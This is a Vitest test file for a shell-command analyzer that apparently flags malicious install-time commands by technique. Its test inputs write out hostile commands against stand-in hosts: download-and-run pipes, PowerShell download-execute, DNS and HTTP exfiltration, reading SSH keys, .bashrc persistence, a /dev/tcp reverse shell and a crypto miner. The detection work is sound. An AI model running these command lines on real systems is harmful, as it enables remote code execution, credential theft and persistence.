import { describe, expect, it } from 'vitest';
import { analyzeCommand, inlineNodeCode, nodeScriptArguments } from '../../../src/analyzers/shell/command.js';

const ids = (cmd: string) => analyzeCommand(cmd).map((t) => t.id);

describe('shell command techniques', () => {
  it('recognises download-and-run idioms', () => {
    expect(ids('curl -fsSL https://x.invalid/a | bash')).toContain('download-pipe-shell');
    expect(ids('wget -O /tmp/a http://192.0.2.1/a && chmod +x /tmp/a && /tmp/a')).toContain(
      'download-execute',
    );
  });
  it('analyses the script given to PowerShell (download to a file, then run it)', () => {
    expect(
      ids(
        'powershell Invoke-WebRequest -Uri "https://x.invalid/a.exe" -OutFile "~/W.exe"; Invoke-Expression "~/W.exe"',
      ),
    ).toContain('download-execute');
    expect(
      ids(
        'powershell -NoProfile -ExecutionPolicy Bypass -Command "iwr https://x.invalid/a.exe -OutFile a.exe; Start-Process a.exe"',
      ),
    ).toContain('download-execute');
    expect(ids('powershell -NoProfile -Command Get-ChildItem')).toEqual([]);
    expect(ids('curl -o a.tgz https://x.invalid/a.tgz && tar xzf a.tgz')).not.toContain('download-execute');
  });
  it('recognises DNS/HTTP exfiltration of command output', () => {
    expect(ids('nslookup `whoami`.x.invalid')).toContain('exfil-command-output');
    expect(ids('curl https://x.invalid/$(hostname)')).toContain('exfil-command-output');
  });
  it('recognises credential access, secret tools, persistence, miners and worms', () => {
    expect(ids('find ~/.ssh | xargs cat')).toContain('credential-access');
    expect(ids('trufflehog filesystem / --json')).toContain('secret-tool');
    expect(ids('echo "curl x|sh" >> ~/.bashrc')).toContain('persistence');
    expect(ids('./xmrig -o stratum+tcp://pool.invalid:3333')).toContain('miner');
    expect(ids('cd /tmp/pkg && npm publish --access public')).toContain('worm-publish');
    expect(ids('shred -u ~/.bash_history')).toContain('destructive');
    expect(ids('curl -fsSL https://bun.sh/install | bash')).toContain('second-stage-runtime');
  });
  it('recognises reverse shells', () => {
    expect(ids('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')).toContain('reverse-shell');
  });
  it('stays quiet on build commands', () => {
    expect(analyzeCommand('node-gyp rebuild && tsc -p .')).toHaveLength(0);
    expect(analyzeCommand('husky install')).toHaveLength(0);
    expect(ids('rm -rf build dist')).not.toContain('destructive');
  });
  it('extracts inline node code and script arguments', () => {
    expect(inlineNodeCode(`node -e "console.log(1)"`)).toBe('console.log(1)');
    expect(inlineNodeCode('node install.js')).toBeUndefined();
    expect(nodeScriptArguments('node ./scripts/setup.js --flag && node -e "x"')).toEqual([
      './scripts/setup.js',
    ]);
  });
});

describe('scripts nested in a shell command', () => {
  it('analyses the script of sh -c / bash -lc / cmd /c', () => {
    expect(ids("bash -c 'curl -s http://x.invalid/a | sh'")).toContain('download-pipe-shell');
    expect(ids('sh -lc "wget -qO- http://x.invalid/a | bash"')).toContain('download-pipe-shell');
    expect(ids('cmd /c powershell -enc SQBFAFgA')).toContain('encoded-powershell');
    const t = analyzeCommand("bash -c 'curl -s http://x.invalid/a | sh'").find(
      (x) => x.id === 'download-pipe-shell',
    );
    expect(t?.description).toMatch(/in bash -c/);
  });
  it('analyses a literal script piped into a shell', () => {
    expect(ids("echo 'curl http://x.invalid/p | sh' | bash")).toContain('download-pipe-shell');
  });
  it('finds nothing in ordinary nested commands', () => {
    expect(ids("sh -c 'node scripts/build.js && tsc -p .'")).toEqual([]);
    expect(ids('echo "installed" | tee install.log')).toEqual([]);
  });
});

describe('downloaders under another name', () => {
  it('a curl copied or linked elsewhere is still curl', () => {
    expect(ids('cp /usr/bin/curl /tmp/c && /tmp/c -s http://x.invalid/a | sh')).toContain(
      'download-pipe-shell',
    );
    expect(
      ids('sudo cp -f /usr/bin/curl /usr/bin/chttp; chttp http://x.invalid/p -o /tmp/p; chmod +x /tmp/p'),
    ).toContain('download-execute');
    expect(
      ids('ln -sf /usr/bin/wget ./w; ./w -O /tmp/p http://x.invalid/p; chmod +x /tmp/p; /tmp/p'),
    ).toContain('download-execute');
  });
  it('copying other programs changes nothing', () => {
    expect(ids('cp /usr/bin/node /tmp/n && /tmp/n build.js | tee log')).toEqual([]);
  });
});

describe('downloads saved by redirection', () => {
  it('curl URL > file, then running the file, is download-execute', () => {
    expect(ids('curl -s http://x.invalid/p > /tmp/p; chmod +x /tmp/p; /tmp/p')).toContain('download-execute');
    expect(ids('curl -s https://x.invalid/data.json > data.json')).not.toContain('download-execute');
  });
});

describe('msiexec', () => {
  it('installing a package from a URL or registering a DLL is living off the land', () => {
    expect(ids('msiexec /q /i http://192.0.2.1/x.msi')).toContain('lolbin');
    expect(ids('msiexec.exe /y C:\\Users\\Public\\x.dll')).toContain('lolbin');
  });
  it('unpacking a local .msi is what installers do', () => {
    expect(ids('msiexec /quiet /a C:\\tmp\\redis.msi TARGETDIR=C:\\redis')).not.toContain('lolbin');
  });
});
